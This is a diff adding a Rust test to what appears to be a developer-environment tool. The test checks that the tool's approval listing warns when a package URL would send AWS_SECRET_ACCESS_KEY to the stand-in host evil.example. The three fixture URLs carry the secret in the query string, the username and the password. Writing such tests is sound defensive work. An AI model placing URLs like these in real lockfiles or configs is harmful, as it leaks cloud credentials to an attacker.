@@ -198,3 +198,24 @@ fn no_lockfile_sends_a_variable() {
         }
     }
 }
+
+#[test]
+fn the_approval_shows_the_variables_that_an_address_sends() {
+    for address in [
+        "https://evil.example/good-1-py3-none-any.whl?k=${AWS_SECRET_ACCESS_KEY}",
+        "https://${AWS_SECRET_ACCESS_KEY}@evil.example/good-1-py3-none-any.whl",
+        "https://u:${AWS_SECRET_ACCESS_KEY}@evil.example/good-1-py3-none-any.whl",
+    ] {
+        for (lock, _, text) in approved_files(address) {
+            let shown = project(lock, &text).devsh(&["allow", "--show"]);
+            let list = &shown.stderr;
+            for part in [
+                "evil.example",
+                "${AWS_SECRET_ACCESS_KEY}",
+                "(sends your variable AWS_SECRET_ACCESS_KEY)",
+            ] {
+                assert!(list.contains(part), "{part} in {text}: {shown}");
+            }
+        }
+    }
+}
